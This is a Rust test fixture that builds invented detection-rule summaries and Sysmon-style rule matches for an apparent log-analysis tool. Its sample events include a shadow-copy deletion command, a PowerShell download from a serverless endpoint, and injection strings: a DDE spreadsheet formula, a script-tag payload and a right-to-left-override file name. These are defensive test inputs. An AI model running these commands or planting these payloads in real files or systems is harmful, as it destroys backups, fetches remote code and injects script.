//! What rules of no collection matched on three hosts in two days, made by hand.

use coldtrail_model::{
    DayCount, HostCount, RecordReference, RuleCount, RuleMatch, RuleSource, RuleSummary, Severity,
    SpanCount, Timestamp,
};

/// The first match: 2026-04-13T08:00:00Z.
const START: i64 = 1_776_067_200_000_000;
const MINUTE: i64 = 60_000_000;

pub(crate) fn at(minutes: i64) -> Timestamp {
    Timestamp(START + minutes * MINUTE)
}

/// Six rules of every level, one of them noisy.
pub(crate) fn summary() -> RuleSummary {
    let rules = vec![
        rule(
            "11111111-aaaa-4bbb-8ccc-000000000001",
            "Shadow copies deleted by a script host",
            "critical",
            3,
        ),
        rule(
            "11111111-aaaa-4bbb-8ccc-000000000002",
            "PowerShell fetches code from a serverless endpoint",
            "high",
            118,
        ),
        rule(
            "11111111-aaaa-4bbb-8ccc-000000000003",
            "Scheduled task from a user's folder",
            "high",
            2,
        ),
        rule("11111111-aaaa-4bbb-8ccc-000000000004", "Unusual parent of a shell", "medium", 41),
        rule("11111111-aaaa-4bbb-8ccc-000000000005", "Process was started", "low", 12_345),
        rule("", "A rule that says little", "", 7),
    ];
    RuleSummary {
        loaded: 3_398,
        fed: 2_011,
        broken: 12,
        events: 1_234_567,
        matched_events: 12_480,
        rules,
        hosts: vec![
            host("ws-042.corp.example", [3, 100, 30, 12_000, 7], 6),
            host("srv-web-1", [0, 20, 11, 300, 0], 4),
            host("", [0, 0, 0, 45, 0], 1),
        ],
        spans: (0..48).map(span).collect(),
        days: vec![
            DayCount { day: at(-480), matches: [1, 20, 11, 345, 0] },
            DayCount { day: at(960), matches: [2, 100, 30, 12_000, 7] },
        ],
    }
}

/// No rule matched.
pub(crate) fn nothing() -> RuleSummary {
    RuleSummary { loaded: 3_398, fed: 2_011, events: 1_204, ..RuleSummary::default() }
}

fn rule(id: &str, title: &str, level: &str, matches: u64) -> RuleCount {
    let is_known = !id.is_empty();
    let author = match matches {
        3 => "Ada Example (Example Labs), Ben Sample",
        118 | 2 => "Cleo Muster",
        7 => "",
        _ => "Ada Example (Example Labs)",
    };
    let techniques: &[&str] = match matches {
        3 => &["T1490"],
        118 => &["T1059.001", "T1102"],
        41 | 12_345 => &["T1059"],
        _ => &[],
    };
    RuleCount {
        rule: RuleSource {
            name: title.to_owned(),
            file: format!("rules/{}.yml", title.to_lowercase().replace([' ', '\''], "_")),
            author: author.to_owned(),
            license: if is_known { "DRL 1.1".to_owned() } else { String::new() },
            severity: Some(Severity::High),
            tactics: vec!["execution".to_owned()],
        },
        id: if is_known { id.to_owned() } else { title.to_owned() },
        level: level.to_owned(),
        tags: techniques.iter().map(|one| format!("attack.{}", one.to_lowercase())).collect(),
        references: vec![
            "http://plain.example/page".to_owned(),
            "https://blog.example/shadow?copy=1".to_owned(),
        ],
        techniques: techniques.iter().map(|one| (*one).to_owned()).collect(),
        matches,
        hosts: 1 + matches % 3,
        first: at(0),
        last: at(i64::try_from(matches % 2_000).unwrap()),
        is_noisy: matches > 1_000,
    }
}

fn host(host: &str, matches: [u64; 5], rules: u64) -> HostCount {
    HostCount { host: host.to_owned(), matches, rules }
}

/// Forty minutes; low matches swell and fade, the grave ones are few.
fn span(index: i64) -> SpanCount {
    let swell = u64::try_from((index - 10) * (40 - index)).unwrap_or(0);
    let matches = [
        u64::from(index == 12 || index == 31),
        u64::from(index % 9 == 3) * 12,
        u64::from((20..30).contains(&index)) * 4,
        swell * 3,
        u64::from(index == 47) * 7,
    ];
    SpanCount { from: at(index * 40), to: at((index + 1) * 40), matches }
}

/// Matches of the rules, a hostile one and one of a rule that the summary does not know among them.
pub(crate) fn matches() -> Vec<RuleMatch> {
    vec![
        RuleMatch {
            details: details(&[
                ("Image", "C:\\Windows\\System32\\wscript.exe"),
                ("CommandLine", "vssadmin delete shadows /all /quiet"),
                ("User", "CORP\\alice"),
            ]),
            ..one("11111111-aaaa-4bbb-8ccc-000000000001", 0)
        },
        RuleMatch {
            details: details(&[
                (
                    "CommandLine",
                    "powershell -c iwr https://a.azurewebsites.net/api/x?code=S3cr3tS3cr3t",
                ),
                ("Password", "hunter2"),
                ("Signature", "Microsoft Windows"),
                ("Hashes", "MD5=00"),
                ("Hashes", "SHA1=11"),
            ]),
            ..one("11111111-aaaa-4bbb-8ccc-000000000002", 7)
        },
        RuleMatch {
            host: "=cmd|' /C calc'!A0".to_owned(),
            channel: "@SUM(1)".to_owned(),
            event_id: "-5".to_owned(),
            details: details(&[("=1+1", "\u{202e}fdp.exe\r\n\"</td><script>alert(1)</script>")]),
            events: 25,
            ..one("unknown rule", 9)
        },
        RuleMatch { host: String::new(), ..one("A rule that says little", 11) },
    ]
}

fn one(rule: &str, minutes: i64) -> RuleMatch {
    RuleMatch {
        timestamp: at(minutes),
        rule: rule.to_owned(),
        host: "ws-042.corp.example".to_owned(),
        channel: "Microsoft-Windows-Sysmon/Operational".to_owned(),
        event_id: "1".to_owned(),
        details: Vec::new(),
        record: RecordReference {
            source: "logs/case 1.zip!/Sysmon#1.evtx".to_owned(),
            offset: 4_096,
            length: 1_280,
            sha256: (minutes == 0).then(|| "ab".repeat(32)),
        },
        events: 1,
    }
}

fn details(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
    pairs.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect()
}

/// Puts strings, over and over, wherever a log or a rule could have put its own.
pub(crate) fn overwritten(strings: &[String]) -> (RuleSummary, Vec<RuleMatch>) {
    let mut strings = strings.iter().cycle().cloned();
    let mut next = || strings.next().unwrap_or_default();
    let (mut summary, mut matches) = (summary(), matches());
    for rule in &mut summary.rules {
        rule.rule.name = next();
        rule.rule.file = next();
        rule.rule.author = next();
        rule.rule.license = next();
        rule.id = next();
        rule.level = next();
        rule.tags = vec![next(), next()];
        rule.techniques = vec![next(), "T1059.001".to_owned()];
        rule.references = vec![next(), format!("https://{}", next())];
        rule.is_noisy = true;
    }
    for host in &mut summary.hosts {
        host.host = next();
    }
    let ids: Vec<String> = summary.rules.iter().map(|rule| rule.id.clone()).collect();
    for (one, id) in matches.iter_mut().zip(ids.into_iter().cycle()) {
        one.rule = id;
        one.host = next();
        one.channel = next();
        one.event_id = next();
        one.details = vec![(next(), next()), (next(), next())];
        one.record.source = next();
    }
    matches[0].rule = next();
    (summary, matches)
}
